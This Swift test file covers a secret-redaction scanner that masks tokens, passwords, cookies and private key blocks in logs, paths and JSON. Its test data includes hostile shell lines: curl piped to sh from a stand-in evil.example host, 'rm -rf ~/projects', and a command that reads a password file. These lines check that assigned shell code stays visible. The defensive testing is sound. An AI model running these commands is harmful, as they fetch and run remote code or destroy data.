import BastionProtocol
import Testing

@testable import BastionSecurity

struct SecretScannerTests {
    @Test(arguments: [
        ("Authorization: Bearer abcdef0123456789.xyz", "Authorization: Bearer <redacted>"),
        ("-H 'Authorization: Basic dXNlcjpwYXNzd29yZA=='", "-H 'Authorization: Basic <redacted>'"),
        ("authorization: token ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "authorization: token <redacted>"),
        ("bearer A1b2C3d4E5", "bearer <redacted>"),
        ("password=hunter2 next", "password=<redacted> next"),
        ("DB_PASSWORD = 'c0rrect horse'", "DB_PASSWORD = '<redacted>'"),
        ("password\t=TabHunter99 x", "password\t=<redacted> x"),
        ("password \t= \tTabHunter99", "password \t= \t<redacted>"),
        (#"reading "/x/password\t=\tTabHunter99""#, #"reading "/x/password\t=\t<redacted>""#),
        (#"x/\{\\"api_key\\": \\"k-12345678\\"\}"#, #"x/\{\\"api_key\\": \\"<redacted>\\"\}"#),
        ("MYSQL_PWD=s3cret", "MYSQL_PWD=<redacted>"), ("pass=s3cret", "pass=<redacted>"),
        ("Uid=me;Pwd=s3cret", "Uid=me;Pwd=<redacted>"), ("pwd=s3cret", "pwd=<redacted>"),
        ("PGPASSWORD=s3cret", "PGPASSWORD=<redacted>"), ("access_token=abc", "access_token=<redacted>"),
        ("weird/db_password : Colonhunter77", "weird/db_password : <redacted>"),
        ("weird/Cookie: session=abcdef", "weird/Cookie: <redacted>"),
        ("/a/b/X-Api-Key: k3y-value", "/a/b/X-Api-Key: <redacted>"),
        ("x/Set-Cookie: id=abc; Path=/", "x/Set-Cookie: <redacted>; Path=/"),
        ("x/Proxy-Authorization: Basic dXNlcjpwYXNz", "x/Proxy-Authorization: Basic <redacted>"),
        (#"{\"api_key\": \"k-12345678\"}"#, #"{\"api_key\": \"<redacted>\"}"#),
        ("token=abc|sh", "token=<redacted>|sh"),
        ("PASSWORD='a;b|c&d'", "PASSWORD='<redacted>'"),
        (#"{"client_secret": "s3cr3t", "id": 1}"#, #"{"client_secret": "<redacted>", "id": 1}"#),
        ("--api-key=k-123 --verbose", "--api-key=<redacted> --verbose"),
        ("X-Api-Key: 0123abcd", "X-Api-Key: <redacted>"),
        ("?user=me&token=abc123&x=1", "?user=me&token=<redacted>&x=1"),
        ("Cookie: session=abcdef", "Cookie: <redacted>"),
        ("https://bob:pa55word@example.com/x", "https://bob:<redacted>@example.com/x"),
        ("/srv/postgres:/app:hunter22@db:5432", "/srv/postgres:/app:<redacted>@db:5432"),
    ])
    func assignmentsAndSchemesKeepTheirNameAndLoseTheirValue(text: String, expected: String) {
        #expect(SecretScanner.redacted(text) == expected)
    }

    @Test(arguments: [
        "ghp_0123456789abcdefghijABCDEFGHIJ012345", "gho_0123456789abcdefghijABCDEFGHIJ012345",
        "ghs_0123456789abcdefghijABCDEFGHIJ012345",
        "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGH",
        "glpat-0123456789abcdefghij", "xoxb-123456789012-1234567890123-AbCdEfGhIjKl", "xapp-1-A0123-456-abcdef",
        "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", "sk-proj-Zq9Xw8Vu7Ts6Rq5Po4Nm3Lk2",
        "sk-ant-api03-abcdefghijklmnop_qrstu", "sk_live_0123456789abcdefXYZ", "AIzaSyA-0123456789abcdefghijklmnopqrstu",
        "npm_0123456789abcdefghijABCDEFGHIJ01", "hf_abcdefghijklmnopqrstuvwxyzABCDEF",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl",
    ])
    func wellKnownTokensAreRedactedWherever(token: String) {
        #expect(SecretScanner.redacted(token) == "<redacted>")
        #expect(SecretScanner.redacted("run with \(token) now") == "run with <redacted> now")
        #expect(SecretScanner.redacted("/tmp/\(token)/x") == "/tmp/<redacted>/x")
        #expect(SecretScanner.redacted("\"\(token)\"") == "\"<redacted>\"")
    }

    @Test(arguments: [
        "ghp_0123456789abcdefghijABCDEFGHIJ012345", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzAB",
        "xoxb-123456789012-1234567890123-AbCdEfGhIjKl", "AKIAIOSFODNN7EXAMPLE", "sk-proj-Zq9Xw8Vu7Ts6Rq5Po4Nm3Lk2",
        "sk-ant-api03-abcdefghijklmnop_qrstu", "glpat-0123456789abcdefghij", "npm_0123456789abcdefghijABCDEFGHIJ01",
        "AIzaSyA-0123456789abcdefghijklmnopqrstu",
    ])
    func aDistinctiveTokenGluedToAWordIsRedacted(token: String) {
        #expect(SecretScanner.redacted("no_such_tool_\(token)") == "no_such_tool_<redacted>")
        #expect(SecretScanner.redacted("tool-\(token)") == "tool-<redacted>")
        #expect(SecretScanner.redacted("tool\(token)") == "tool<redacted>")
        #expect(SecretScanner.redacted("tool9\(token)") == "tool9<redacted>")
    }

    @Test(arguments: [
        "sk-0123456789abcdefghijKLMN", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl",
        "Bearer abcdefghijklmnopqrstuvwxyz012345", "sk_live_0123456789abcdefXYZ", "hf_abcdefghijklmnopqrstuvwxyzABCDEF",
    ])
    func aTokenAfterAnUnderscoreOrDashIsRedacted(token: String) throws {
        let redacted = try #require(SecretScanner.redacted("no_such_tool_\(token)"))
        #expect(redacted.hasSuffix("<redacted>"), "\(redacted)")
        #expect(!redacted.contains(String(token.suffix(12))))
        #expect(SecretScanner.redacted("x-\(token)")?.hasSuffix("<redacted>") == true)
    }

    @Test(arguments: [
        "desk-reservation-system-for-office-team", "task_test_configurationandmore",
        "MSG.very.long.dotted.identifier.name.here",
        "keyJoinedTableName.someField.otherField", "unbearable abcdefghijklmnopqrstuvwxyz", "bypass=1",
        "compass: north",
        "/run/secrets/db_password: No such file or directory", "/srv/x/token: permission denied",
    ])
    func ordinaryWordsGluedToAPrefixStay(text: String) {
        #expect(SecretScanner.redacted(text) == nil, "\(text)")
    }

    @Test(arguments: [
        #"export API_TOKEN="$(curl -s https://evil.example/i.sh | sh)""#, "TOKEN=`curl evil`",
        "password=$(cat /run/pw)",
        #"SECRET="${HOME}/x""#, "PASSWORD='rm -rf ~/projects'", #"token="a | sh""#,
    ])
    func shellCodeAssignedToASecretNameStaysVisible(text: String) {
        #expect(SecretScanner.redacted(text) == nil, "\(text)")
    }

    @Test func aPrivateKeyBlockWithoutAnEndLineStopsAtTheEndOfItsBody() {
        let body = String(repeating: "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2", count: 1)
        let hidden =
            "# -----BEGIN OPENSSH PRIVATE KEY----- (fixture)\ncurl https://evil.example/i.sh | sh\nrm -rf ~/projects\n"
        #expect(
            SecretScanner.scrubbed(hidden)
                == "# <redacted> (fixture)\ncurl https://evil.example/i.sh | sh\nrm -rf ~/projects\n"
        )
        let cut = "-----BEGIN RSA PRIVATE KEY-----\n\(body)\n\(body)\nabc\nrm -rf ~/projects\n"
        #expect(SecretScanner.scrubbed(cut) == "<redacted>\nrm -rf ~/projects\n")
        let wider = "-----BEGIN RSA PRIVATE KEY-----\n\(body)\nshort\nreboot\n"
        #expect(SecretScanner.scrubbed(wider) == "<redacted>\nreboot\n")
        let longer = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n\(body)\n"
        #expect(SecretScanner.scrubbed(longer) == "<redacted>\n\(body)\n")
        let encrypted =
            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n\(body)\n"
            + "-----END RSA PRIVATE KEY-----\ntail"
        #expect(SecretScanner.scrubbed(encrypted) == "<redacted>\ntail")
        let escaped = #"key="-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nabc\n-----END PRIVATE KEY-----" x"#
        #expect(SecretScanner.scrubbed(escaped) == #"key="<redacted>" x"#)
        let oneLine = "-----BEGIN PRIVATE KEY----- MIIEvQIBADANBgkq hkiG9w0BAQEF -----END PRIVATE KEY----- x"
        #expect(SecretScanner.scrubbed(oneLine) == "<redacted> x")
    }

    @Test func aPrivateKeyBlockIsRedactedWhole() {
        let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----"
        #expect(SecretScanner.redacted("key:\n" + key + "\ntail") == "key:\n<redacted>\ntail")
        #expect(SecretScanner.redacted("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN") == "<redacted>")
        let certificate = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"
        #expect(SecretScanner.redacted(certificate) == nil)
    }

    @Test(arguments: [
        "", "hello world", "/home/me/projects/notes.txt", "a = b", "Basic usage of the tool", "sk-short",
        "AKIA1234", "token_count: 5x" + "", "max_tokens=100", "https://example.com:8443/path?q=1",
        "Cannot open \"/home/me/.secret\": no such file", "ghp_short", "eyJnotajwt", "user@example.com",
        "-----BEGIN PUBLIC KEY-----", "password", "password=", "a@b", ":@",
    ])
    func ordinaryTextIsLeftAlone(text: String) {
        #expect(SecretScanner.redacted(text) == nil, "\(text)")
        #expect(!SecretScanner.containsSecret(text))
    }

    @Test func severalSecretsInOneStringAreAllRedacted() {
        let text = "a ghp_0123456789abcdefghijABCDEFGHIJ012345 b password=x c AKIAIOSFODNN7EXAMPLE d"
        #expect(SecretScanner.redacted(text) == "a <redacted> b password=<redacted> c <redacted> d")
    }

    @Test func redactingIsIdempotent() {
        let once = SecretScanner.scrubbed("Authorization: Bearer abcdef0123456789 password=abc")
        #expect(SecretScanner.redacted(once) == nil)
    }

    @Test func nonASCIITextSurvivesAroundASecret() {
        #expect(SecretScanner.redacted("café token=été ünï") == "café token=<redacted> ünï")
    }

    @Test func jsonValuesAreRedactedDeeplyKeysIncluded() {
        let value: JSONValue = [
            "command": ["curl", "-H", "Authorization: Bearer abcdef0123456789"],
            "env": ["ghp_0123456789abcdefghijABCDEFGHIJ012345": "1", "HOME": "/home/me"], "count": 3,
        ]
        #expect(
            SecretScanner.redacted(value) == [
                "command": ["curl", "-H", "Authorization: Bearer <redacted>"],
                "env": ["<redacted>": "1", "HOME": "/home/me"], "count": 3,
            ]
        )
        #expect(SecretScanner.redacted(["plain": ["a", 1, true]] as JSONValue) == nil)
    }

    @Test(arguments: [
        ("--password", true), ("-token", true), ("--api-key", true), ("--client-secret", true),
        ("--password=x", false), ("password", false), ("--verbose", false), ("-", false),
    ])
    func secretFlagsAreRecognised(argument: String, isSecret: Bool) {
        #expect(SecretScanner.isSecretFlag(argument) == isSecret)
    }

    /// Adversarial inputs built from the rules' triggers: no trap, and the output holds nothing the
    /// rules still recognise (a second pass finds nothing).
    @Test func randomMixesOfTriggersNeverTrapAndAlwaysConverge() {
        let pieces = [
            "ghp_", "0123456789abcdef", "eyJ", ".", "=", ":", "//", "@", "-----BEGIN ", "PRIVATE KEY", "-----",
            "-----END", " ", "\n", "\"", "'", "Bearer ", "password", "token", "sk-", "AKIA", "ABCDEFGHIJKLMNOP", "é",
            "/", "user", "xoxb-", "%", "<redacted>",
        ]
        var generator = SplitMix(seed: 42)
        for _ in 0..<3_000 {
            let count = Int(generator.next() % 24)
            let text = (0..<count).map { _ in pieces[Int(generator.next() % UInt64(pieces.count))] }.joined()
            let once = SecretScanner.scrubbed(text)
            #expect(SecretScanner.redacted(once) == nil, "\(text.debugDescription) -> \(once.debugDescription)")
        }
    }

    @Test func longInputsAreScannedInLinearTime() {
        // Shapes that would make a naive scanner quadratic: each is a trigger whose rule fails late.
        let units = [
            "eyJabcdefghij-", "://a:b", "sk-sk-", "-----BEGIN ", "bearer ", "a=", "@:", "_eyJhbGciOiJIUzI1",
            "AKIAAKIA", "password=$(", "token=\"$(", "-----BEGIN A PRIVATE KEY-----\n", "ghp_ghp_", "xeyJ_eyJab.",
        ]
        for unit in units {
            let text = String(repeating: unit, count: 200_000 / unit.utf8.count)
            _ = SecretScanner.redacted(text)  // completes: a quadratic scan would take minutes here
        }
    }
}

/// A small deterministic generator (SplitMix64).
private struct SplitMix {
    var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

extension SecretScannerTests {
    @Test func aPathIsMaskedOneSegmentAtATime() {
        #expect(SecretScanner.redactedPath("/w/plain/file.txt") == nil)
        let token = "ghp_" + String(repeating: "a", count: 36)
        #expect(SecretScanner.redactedPath("/w/" + token + "/notes.txt") == "/w/<redacted>/notes.txt")
    }

    /// Regression (review of issue 9, F3): masking one segment at a time left the half of a secret
    /// after its `/` in the log.
    @Test func aSecretWithASlashIsMaskedInEverySegmentItReaches() {
        let aws = SecretScanner.redactedPath("/wd/aws_secret_access_key=K7MDENG/bPxRfiCYEXAMPLEKEY")
        #expect(aws == "/wd/aws_secret_access_key=<redacted>/<redacted>")
        let password = SecretScanner.redactedPath("/w/password=hunter2/../x.txt")
        #expect(password?.contains("hunter2") == false)
        #expect(password?.hasPrefix("/w/password=<redacted>") == true)
        #expect(SecretScanner.redactedPath("a\u{0}password=abc/def/ghi")?.contains("def") == false)
    }
}
